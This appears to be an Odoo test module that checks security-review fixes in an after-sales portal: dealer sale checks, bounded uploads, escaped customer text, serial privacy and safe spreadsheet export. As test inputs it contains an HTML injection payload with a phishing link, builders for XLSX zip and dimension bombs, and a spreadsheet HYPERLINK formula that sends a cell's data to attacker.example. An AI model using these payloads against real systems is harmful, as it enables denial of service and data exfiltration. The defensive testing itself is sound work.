"""Security review 2026-12-01, findings F3, F4, F5 (storage), F12, F16, F20:
dealers register only what they may sell, uploads are bounded before they
are parsed, customer text is stored as text, serial lookups leak nothing,
spreadsheets treat text as text."""

import base64
import io
import re
import time
import tracemalloc
import zipfile
from datetime import date

from odoo.exceptions import UserError
from odoo.tests import Form, tagged

from ..controllers.portal import (
    LIMIT_DEALER_BULK_PER_USER,
    LIMIT_DEALER_SALES_PER_USER,
)
from ..models.aftersales_order.portal import MAX_BULK_ROWS
from .test_portal import PortalCommon

# What a customer, a dealer or a QR requester might type (report F5).
PAYLOAD = (
    'Broken <img src="http://127.0.0.1:8999/x.png"> '
    '<a href="https://phishing.example">Pay the fee here</a>'
)
# Bounds of one bulk request, whatever the file declares (report F4).
MAX_SECONDS = 2.0
MAX_PEAK_BYTES = 16 * 1024 * 1024


def dimension_bomb(rows=4000):
    """A real XLSX of about 1.6 KB: one sheet with two cells, A1 and B<rows>,
    that declares itself ``A1:XFD<rows>`` (16,384 columns)."""
    ns = "http://schemas.openxmlformats.org"
    rel = f"{ns}/officeDocument/2006/relationships"
    parts = {
        "[Content_Types].xml": (
            f'<Types xmlns="{ns}/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType='
            '"application/vnd.openxmlformats-officedocument.spreadsheetml.'
            'worksheet+xml"/></Types>'
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{ns}/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{rel}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<workbook xmlns="{ns}/spreadsheetml/2006/main" xmlns:r="{rel}">'
            '<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{ns}/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{rel}/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": (
            f'<worksheet xmlns="{ns}/spreadsheetml/2006/main">'
            f'<dimension ref="A1:XFD{rows}"/><sheetData><row r="1">'
            '<c r="A1" t="inlineStr"><is><t>x</t></is></c>'
            f'</row><row r="{rows}"><c r="B{rows}" t="inlineStr"><is><t>y</t></is>'
            "</c></row></sheetData></worksheet>"
        ),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as book:
        for name, xml in parts.items():
            book.writestr(name, xml)
    return buffer.getvalue()


def zip_bomb(unpacked=80 * 1024 * 1024):
    """A valid-looking XLSX whose sheet unpacks to ``unpacked`` bytes."""
    source = io.BytesIO(dimension_bomb(1))
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(source) as original,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as book,
    ):
        for item in original.infolist():
            data = original.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<sheetData>", b"<sheetData>" + b" " * unpacked)
            book.writestr(item.filename, data)
    return buffer.getvalue()


def measured(function, *args):
    """(result or exception, seconds, peak bytes allocated) of a call."""
    tracemalloc.start()
    start = time.perf_counter()
    try:
        result = function(*args)
    except UserError as error:
        result = error
    finally:
        seconds = time.perf_counter() - start
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return result, seconds, peak


class SecDealerCommon(PortalCommon):
    """A dealer with one registered sale; the other customer owns two units
    with history (an expired warranty, a work order); a second product."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.dealer, cls.dealer_contact, cls.user_dealer = cls._create_dealer(
            "sec_dealer", "Sec Store", "Sec Clerk"
        )
        cls.type_dealer_repair = cls.env["aftersales.service.type"].create(
            {"name": "Sec Dealer Repair", "code": "SDR"}
        )
        cls.dealer_type = cls.env["aftersales.warranty.type"].create(
            {"name": "Sec Dealer Warranty", "duration": 2}
        )
        cls.portal_product.product_tmpl_id.aftersales_warranty_type_id = cls.dealer_type
        cls.company.aftersales_dispatcher_id = cls.user_dispatcher
        cls.ac_product = cls.env["product.product"].create(
            {
                "name": "Sec Air Conditioner",
                "type": "consu",
                "tracking": "serial",
                "default_code": "SAC12",
            }
        )
        cls.ac_product.product_tmpl_id.aftersales_warranty_type_id = cls.dealer_type
        Order = cls.env["aftersales.order"]
        cls.sold = Order._dealer_register_sale(
            cls.dealer,
            {
                "customer_name": "Sec Buyer",
                "phone": "+905551000071",
                "product_code": "TPW",
                "serial": "SEC-0001",
            },
        )
        # The other customer's old unit: its warranty ran out, it was repaired.
        cls.expired_lot = cls.env["stock.lot"].create(
            {"name": "TPW-0003", "product_id": cls.portal_product.id}
        )
        expired = cls.env["aftersales.warranty"].create(
            {
                "lot_id": cls.expired_lot.id,
                "partner_id": cls.other_customer.id,
                "warranty_type_id": cls.dealer_type.id,
            }
        )
        expired.action_activate(date(2020, 1, 1))
        expired._expire_ended()
        cls._order_in_state(
            "done",
            partner_id=cls.other_customer.id,
            product_id=cls.portal_product.id,
            lot_id=cls.expired_lot.id,
        )
        # Another unit of theirs, known from a work order only.
        cls.serviced_lot = cls.env["stock.lot"].create(
            {"name": "TPW-0004", "product_id": cls.portal_product.id}
        )
        cls._order_in_state(
            "done",
            partner_id=cls.other_customer.id,
            product_id=cls.portal_product.id,
            lot_id=cls.serviced_lot.id,
        )

    def _sale(self, **data):
        values = {
            "customer_name": "Fraud Buyer",
            "phone": "+905551000072",
            "product_code": "TPW",
            **data,
        }
        return self._post("/my/dealer/sales", values)

    def _lot_trail(self, lot):
        """Chatter and activities of a unit, as one text."""
        lot = lot.sudo()
        return " ".join(
            [str(body) for body in lot.message_ids.mapped("body")]
            + [str(note) for note in lot.activity_ids.mapped("note")]
            + lot.activity_ids.mapped("summary")
        )


@tagged("post_install", "-at_install")
class TestDealerSales(SecDealerCommon):
    """F3, F12: a dealer registers only units it may sell; every refusal and
    every re-registration leaves a trail for the back office."""

    def test_another_customers_unit_is_refused_and_reported(self):
        self.authenticate("sec_dealer", "sec_dealer")
        for lot in (self.expired_lot, self.serviced_lot, self.my_lot):
            with self.subTest(serial=lot.name):
                warranties = lot.aftersales_warranty_ids
                owner = lot.aftersales_owner_id
                response = self._sale(serial=lot.name, customer_name=PAYLOAD)
                self.assertEqual(response.status_code, 400)
                self.assertIn("cannot be registered", response.text)
                lot.invalidate_recordset()
                self.assertEqual(lot.aftersales_warranty_ids, warranties)
                self.assertEqual(lot.aftersales_owner_id, owner)
                trail = self._lot_trail(lot)
                self.assertIn("Sec Store", trail)
                self.assertIn(lot.name, trail)
                # What the dealer typed is in the trail as text only.
                self.assertNotIn("<img", trail)
                self.assertNotIn("<a ", trail)
        self.assertFalse(
            self.env["res.partner"].search([("name", "=", PAYLOAD)]),
            "a refused sale creates no customer",
        )
        # The back office is asked to review it, once per unit.
        activity = self.expired_lot.sudo().activity_ids
        self.assertEqual(len(activity), 1)
        self._sale(serial=self.expired_lot.name)
        self.assertEqual(self.expired_lot.sudo().activity_ids, activity)

    def test_serial_of_another_product_is_refused(self):
        """F12: no second unit with the name of an existing serial."""
        self.authenticate("sec_dealer", "sec_dealer")
        response = self._sale(serial="TPW-0001", product_code="SAC12")
        self.assertEqual(response.status_code, 400)
        self.assertIn("cannot be registered", response.text)
        self.assertEqual(
            self.env["stock.lot"].search_count([("name", "=", "TPW-0001")]), 1
        )
        with self.assertRaisesRegex(UserError, "cannot be registered"):
            self.env["aftersales.order"]._dealer_register_sale(
                self.dealer,
                {
                    "customer_name": "Sec Buyer",
                    "phone": "+905551000071",
                    "product_code": "SAC12",
                    "serial": "SEC-0001",
                },
            )

    def test_second_sale_to_the_same_customer_is_logged(self):
        self.sold.action_void("Returned to the store")
        lot = self.sold.lot_id
        self.authenticate("sec_dealer", "sec_dealer")
        response = self._sale(
            serial="SEC-0001", customer_name="Sec Buyer", phone="+905551000071"
        )
        self.assertEqual(response.status_code, 303)
        warranty = lot.aftersales_warranty_ids - self.sold
        self.assertEqual(warranty.state, "active")
        self.assertEqual(warranty.partner_id, self.sold.partner_id)
        trail = self._lot_trail(lot)
        self.assertIn("registered again", trail)
        self.assertIn("Sec Store", trail)
        self.assertIn(warranty.card_number, trail)
        message = lot.sudo().message_ids.filtered(
            lambda m: "registered again" in str(m.body)
        )
        self.assertEqual(message.author_id, self.dealer_contact)
        # Returned to the store again (voided by the back office) and sold to
        # someone else: allowed, and logged too.
        warranty.action_void("Returned again")
        resold = self._sale(serial="SEC-0001", phone="+905551000073")
        self.assertEqual(resold.status_code, 303)
        third = lot.aftersales_warranty_ids - self.sold - warranty
        self.assertEqual(third.partner_id.phone, "+905551000073")
        self.assertIn(third.card_number, self._lot_trail(lot))
        # While that customer's warranty stands, nobody else gets the unit.
        refused = self._sale(serial="SEC-0001", phone="+905551000071")
        self.assertEqual(refused.status_code, 400)
        self.assertIn("cannot be registered", refused.text)

    def test_a_new_serial_is_still_registered(self):
        self.authenticate("sec_dealer", "sec_dealer")
        response = self._sale(serial="SEC-0100")
        self.assertEqual(response.status_code, 303)
        self.assertEqual(
            self.env["stock.lot"]
            .search([("name", "=", "SEC-0100")])
            .aftersales_owner_id.name,
            "Fraud Buyer",
        )

    def test_sale_registrations_are_rate_limited(self):
        self.authenticate("sec_dealer", "sec_dealer")
        RateLimit = self.env["aftersales.rate.limit"]
        attempts, window = LIMIT_DEALER_SALES_PER_USER
        for _i in range(attempts):
            RateLimit._hit(f"dealer-sale:{self.user_dealer.id}", window)
        response = self._sale(serial="SEC-0200")
        self.assertEqual(response.status_code, 429)
        self.assertFalse(self.env["stock.lot"].search([("name", "=", "SEC-0200")]))


@tagged("post_install", "-at_install")
class TestDealerUploads(SecDealerCommon):
    """F4: uploads are bounded before they are parsed; F5: what dealers type
    is stored as text."""

    def _bulk(self, filename, content):
        start = time.perf_counter()
        response = self._post(
            "/my/dealer/requests",
            {"rows": ""},
            files={"file": (filename, content, "application/octet-stream")},
        )
        return response, time.perf_counter() - start

    def test_xlsx_dimension_bomb_is_cheap(self):
        bomb = dimension_bomb(4000)
        self.assertLess(len(bomb), 2000)
        Order = self.env["aftersales.order"]
        error, seconds, peak = measured(Order._dealer_parse_file, "bomb.xlsx", bomb)
        self.assertLess(peak, MAX_PEAK_BYTES)
        self.assertLess(seconds, MAX_SECONDS)
        self.assertIsInstance(error, UserError)
        self.assertIn(f"At most {MAX_BULK_ROWS} rows", str(error))
        # Within the limit, the same file is read, three columns wide.
        small = dimension_bomb(MAX_BULK_ROWS)
        self.assertEqual(
            Order._dealer_parse_file("small.xlsx", small),
            [(1, ["x", "", ""]), (MAX_BULK_ROWS, ["", "y", ""])],
        )
        self.authenticate("sec_dealer", "sec_dealer")
        response, seconds = self._bulk("bomb.xlsx", bomb)
        self.assertEqual(response.status_code, 400)
        self.assertIn(f"At most {MAX_BULK_ROWS} rows", response.text)
        self.assertLess(seconds, MAX_SECONDS)

    def test_xlsx_zip_bomb_is_refused_unopened(self):
        bomb = zip_bomb()
        self.assertLess(len(bomb), 1024 * 1024)
        Order = self.env["aftersales.order"]
        error, seconds, peak = measured(Order._dealer_parse_file, "bomb.xlsx", bomb)
        self.assertLess(peak, MAX_PEAK_BYTES)
        self.assertLess(seconds, MAX_SECONDS)
        self.assertIsInstance(error, UserError)
        self.assertIn("too large", str(error))

    def test_huge_csv_stops_at_the_row_limit(self):
        Order = self.env["aftersales.order"]
        content = b"a\n" * 1_000_000
        error, seconds, peak = measured(Order._dealer_parse_file, "big.csv", content)
        self.assertLess(peak, MAX_PEAK_BYTES)
        self.assertLess(seconds, MAX_SECONDS)
        self.assertIsInstance(error, UserError)
        self.assertIn(f"At most {MAX_BULK_ROWS} rows", str(error))
        # 9 MB over HTTP, as in the report.
        self.authenticate("sec_dealer", "sec_dealer")
        response, seconds = self._bulk("big.csv", b"a\n" * 4_700_000)
        self.assertEqual(response.status_code, 400)
        self.assertIn(f"At most {MAX_BULK_ROWS} rows", response.text)
        self.assertLess(seconds, MAX_SECONDS)

    def test_pasted_rows_and_files_up_to_the_limit_still_work(self):
        rows = "".join(f"SEC-0001;SDR;Row {i}\n" for i in range(MAX_BULK_ROWS))
        Order = self.env["aftersales.order"]
        self.assertEqual(len(Order._dealer_parse_text(rows)), MAX_BULK_ROWS)
        header = "Serial;Service;Problem\n"
        parsed = Order._dealer_parse_file("rows.csv", (header + rows).encode())
        self.assertEqual(len(parsed), MAX_BULK_ROWS)
        with self.assertRaisesRegex(UserError, f"At most {MAX_BULK_ROWS} rows"):
            Order._dealer_parse_text(rows + "SEC-0001;SDR;One more\n")
        with self.assertRaisesRegex(UserError, f"At most {MAX_BULK_ROWS} rows"):
            Order._dealer_parse_file(
                "rows.csv", (header + rows + "SEC-0001;SDR;One more\n").encode()
            )

    def test_wizard_reads_bounded(self):
        """The dispatchers' import wizard shares the readers."""
        Import = self.env["aftersales.warranty.import"].with_user(self.user_dispatcher)
        for name, content, message in (
            ("bomb.xlsx", dimension_bomb(4000), "no column"),
            ("bomb.xlsx", zip_bomb(), "too large"),
            ("big.csv", b"a\n" * 4_700_000, "At most"),
            (
                "big.csv",
                b"serial,product,customer\n" + b"a,b,c\n" * 1_000_000,
                "At most",
            ),
        ):
            with self.subTest(name=name, message=message):
                job = Import.create({"name": name, "file": base64.b64encode(content)})
                error, seconds, peak = measured(job.action_check)
                self.assertLess(peak, 4 * len(content) + MAX_PEAK_BYTES)
                self.assertLess(seconds, MAX_SECONDS)
                self.assertIsInstance(error, UserError)
                self.assertIn(message, str(error))

    def test_bulk_requests_are_rate_limited(self):
        self.authenticate("sec_dealer", "sec_dealer")
        RateLimit = self.env["aftersales.rate.limit"]
        attempts, window = LIMIT_DEALER_BULK_PER_USER
        for _i in range(attempts):
            RateLimit._hit(f"dealer-bulk:{self.user_dealer.id}", window)
        response = self._post("/my/dealer/requests", {"rows": "SEC-0001;SDR;Leaks"})
        self.assertEqual(response.status_code, 429)
        self.assertFalse(
            self.env["aftersales.order"].search([("dealer_id", "=", self.dealer.id)])
        )

    def test_dealer_rows_are_stored_as_text(self):
        self.authenticate("sec_dealer", "sec_dealer")
        response = self._post(
            "/my/dealer/requests", {"rows": f"SEC-0001;SDR;{PAYLOAD}"}
        )
        self.assertEqual(response.status_code, 200)
        order = self.env["aftersales.order"].search(
            [("dealer_id", "=", self.dealer.id)]
        )
        self.assertEqual(len(order), 1)
        self.assertNotIn("<img", order.description)
        self.assertNotIn("<a ", order.description)
        self.assertIn("&lt;img", order.description)


@tagged("post_install", "-at_install")
class TestPortalSerials(SecDealerCommon):
    """F20: a customer files requests only for units that are theirs or
    nobody's, and the answer does not tell which serials exist; F5: what they
    type is stored as text."""

    def _request(self, **data):
        values = {
            "service_type_id": str(self.type_repair.id),
            "description": "It leaks.",
            **data,
        }
        return self._post("/my/service-orders/new", values)

    def _error(self, response):
        return re.search(r"alert-danger[^>]*>([^<]*)<", response.text).group(1)

    def test_someone_elses_serial_is_refused_like_an_unknown_one(self):
        self.authenticate("portal_customer", "portal_customer")
        before = self.env["aftersales.order"].search_count([])
        unknown = self._request(serial="TPW-9999")
        self.assertEqual(unknown.status_code, 400)
        for lot in (self.other_lot, self.expired_lot, self.serviced_lot):
            with self.subTest(serial=lot.name):
                response = self._request(serial=lot.name)
                self.assertEqual(response.status_code, 400)
                self.assertEqual(
                    self._error(response),
                    self._error(unknown).replace("TPW-9999", lot.name),
                )
        self.assertEqual(self.env["aftersales.order"].search_count([]), before)
        products = self.url_open("/my/service-products")
        for lot in (self.other_lot, self.expired_lot, self.serviced_lot):
            self.assertNotIn(lot.name, products.text)
        # A serial nobody has registered yet is accepted, and their own.
        self.env["stock.lot"].create(
            {"name": "TPW-0500", "product_id": self.portal_product.id}
        )
        self.assertEqual(self._request(serial="TPW-0500").status_code, 303)
        self.assertEqual(self._request(serial="TPW-0001").status_code, 303)

    def test_a_unit_owned_by_someone_else_is_not_among_my_products(self):
        # A request filed before this fix: the unit stays the owner's.
        self._create_order(
            partner_id=self.customer.id,
            product_id=self.portal_product.id,
            lot_id=self.other_lot.id,
        )
        self.authenticate("portal_customer", "portal_customer")
        products = self.url_open("/my/service-products")
        self.assertIn("TPW-0001", products.text)
        self.assertNotIn("TPW-0002", products.text)
        page = self.url_open(f"/my/service-products/{self.other_lot.id}")
        self.assertEqual(page.status_code, 404)
        response = self._request(lot_id=str(self.other_lot.id))
        self.assertEqual(response.status_code, 400)

    def test_portal_description_is_stored_as_text(self):
        self.authenticate("portal_customer", "portal_customer")
        response = self._request(
            lot_id=str(self.my_lot.id), description=PAYLOAD + "\nSecond line"
        )
        self.assertEqual(response.status_code, 303)
        order = self._orders_of(self.customer).filtered(lambda o: o.channel == "portal")
        self.assertNotIn("<img", order.description)
        self.assertNotIn("<a ", order.description)
        self.assertIn("&lt;img src=", order.description)
        self.assertIn("Second line", order.description)


@tagged("post_install", "-at_install")
class TestQrUnit(SecDealerCommon):
    """F12: the QR flow finds the scanned unit by its id; F5: what the
    requester types is stored as text."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.customer.phone = "+905301112233"
        cls.token = cls.my_lot._aftersales_ensure_qr_token()[cls.my_lot.id]
        # A duplicate name under another product (registered before the fix).
        cls.env["stock.lot"].create(
            {"name": "TPW-0001", "product_id": cls.ac_product.id}
        )

    def test_qr_request_for_a_serial_with_a_twin(self):
        self.authenticate(None, None)
        started = self._post(
            f"/aftersales/qr/{self.token}/code", {"phone": "+90 530 111 22 33"}
        )
        key = re.search(r'name="key" value="([^"]+)"', started.text).group(1)
        sms = self.env["sms.sms"].search(
            [("number", "=", "+905301112233")], order="id desc", limit=1
        )
        code = re.search(r"\b(\d{6})\b", sms.body).group(1)
        response = self._post(
            f"/aftersales/qr/{self.token}/request",
            {
                "key": key,
                "code": code,
                "service_type_id": str(self.type_repair.id),
                "description": PAYLOAD,
            },
        )
        self.assertEqual(response.status_code, 200, response.text[:300])
        order = self.env["aftersales.order"].search(
            [("channel", "=", "qr")], order="id desc", limit=1
        )
        self.assertEqual(order.lot_id, self.my_lot)
        self.assertNotIn("<img", order.description)
        self.assertNotIn("<a ", order.description)
        self.assertIn("&lt;img", order.description)


@tagged("post_install", "-at_install")
class TestScoreExportText(SecDealerCommon):
    """F16: a technician's name is text in the export, never a formula."""

    def test_formula_name_is_written_as_text(self):
        name = '=HYPERLINK("http://attacker.example/?d="&B2,"Ahmet")'
        self.technician_a1.name = name
        wizard = Form(
            self.env["aftersales.performance.export"].with_user(self.user_manager)
        ).save()
        action = wizard.action_export()
        attachment = self.env["ir.attachment"].browse(
            int(action["url"].split("/")[3].split("?")[0])
        )
        with zipfile.ZipFile(io.BytesIO(base64.b64decode(attachment.datas))) as book:
            sheet = book.read("xl/worksheets/sheet1.xml").decode()
            strings = book.read("xl/sharedStrings.xml").decode()
        self.assertNotIn("<f>", sheet)
        self.assertNotIn("<hyperlink", sheet)
        self.assertIn("=HYPERLINK(", strings)
